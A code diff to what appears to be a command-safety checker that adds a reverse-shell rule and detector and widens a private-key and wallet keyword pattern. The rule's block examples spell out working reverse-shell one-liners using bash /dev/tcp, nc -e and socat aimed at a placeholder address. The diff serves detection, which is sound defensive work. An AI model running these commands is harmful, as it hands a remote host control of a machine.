@@ -714,6 +714,12 @@ var DESTRUCTIVE = [
     }
   },
   {
+    id: "net.reverse-shell",
+    why: "hands a shell to a remote host (reverse shell)",
+    check: "reverse-shell",
+    examples: { block: ["bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "nc -e /bin/sh 203.0.113.9 4444", "socat exec:'bash -li',pty tcp:203.0.113.9:4444"], allow: ["nc -zv example.com 443", "echo ping > /dev/tcp/localhost/8080"] }
+  },
+  {
     id: "disk.diskutil-erase",
     why: "erases a whole disk",
     regex: /^diskutil\s+(?:zeroDisk|secureErase|eraseDisk|partitionDisk)\b/,
@@ -4600,7 +4606,7 @@ function pemFindings(row, text2, out) {
 }
 var HEX64 = /(?<![0-9A-Za-z])(?:0x)?[0-9a-fA-F]{64}(?![0-9A-Za-z])/g;
 var HASH_WORD = /\b(?:tx|txn|txid|txhash|tx_hash|hash|hashes|blockhash|block|transaction|digest|sha-?256|sha3|keccak(?:256)?|topics?|slot|root|commit|checksum|merkle|receipt|signature|sig|nonce|salt|event|log)\b|交易|哈希|区块|區塊|散列|签名|ハッシュ|トランザクション|ブロック|署名/gi;
-var KEY_WORD = /\b(?:private|priv|secret|privkey|private_key|privatekey|pk|key)\b|私钥|私鑰|秘钥|密钥|密鑰|秘密鍵|プライベートキー/gi;
+var KEY_WORD = /\b(?:private|priv|secret|privkey|private_key|privatekey|pk|key|wallet|metamask)\b|私钥|私鑰|秘钥|密钥|密鑰|秘密鍵|プライベートキー|钱包|錢包|ウォレット/gi;
 function evmFindings(row, text2, out) {
   const re = globalOf(HEX64);
   for (let m = re.exec(text2); m; m = re.exec(text2)) {
@@ -6771,6 +6777,15 @@ function exfil(c, scope, k, kind) {
   if (c.redirects.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target.text))) return kind === "cred" ? readsCred(c) : isEnvDump(c);
   return false;
 }
+var SHELL_PATH = /^(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh$/;
+var reverseShell = (c) => {
+  const prog = programName(c.words[0]);
+  const w = texts(c);
+  if (/^(?:nc|ncat|netcat)$/.test(prog)) return w.some((t, i) => /^-\w*[ec]$/.test(t) && SHELL_PATH.test(w[i + 1] ?? ""));
+  if (prog === "socat") return w.some((t) => /^(?:exec|system):/i.test(t) && /(?:ba|z)?sh\b/.test(t)) && w.some((t) => /^(?:tcp|ssl|openssl)[\w-]*:/i.test(t));
+  const tcp = c.redirects.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target.text));
+  return tcp && SHELL_PATH.test(prog) && c.redirects.some((r) => r.op === ">&" || r.op === "&>" || r.op === "<" || r.op === "<&" || r.op === "<>");
+};
 var CHECKS = {
   "rm-root-home-system": { programs: ["rm"], check: rmRoot },
   "find-delete-root": { programs: ["find"], check: findDelete },
@@ -6787,7 +6802,8 @@ var CHECKS = {
   "truncate-system-file": { check: truncateSystem },
   "git-reset-remote": { programs: ["git"], check: gitResetRemote },
   "exfil-credential-file": { check: (c, s, k) => exfil(c, s, k, "cred") },
-  "exfil-env-dump": { check: (c, s, k) => exfil(c, s, k, "env") }
+  "exfil-env-dump": { check: (c, s, k) => exfil(c, s, k, "env") },
+  "reverse-shell": { check: reverseShell }
 };
 function guardedVars(cmds) {
   const out = /* @__PURE__ */ new Set();
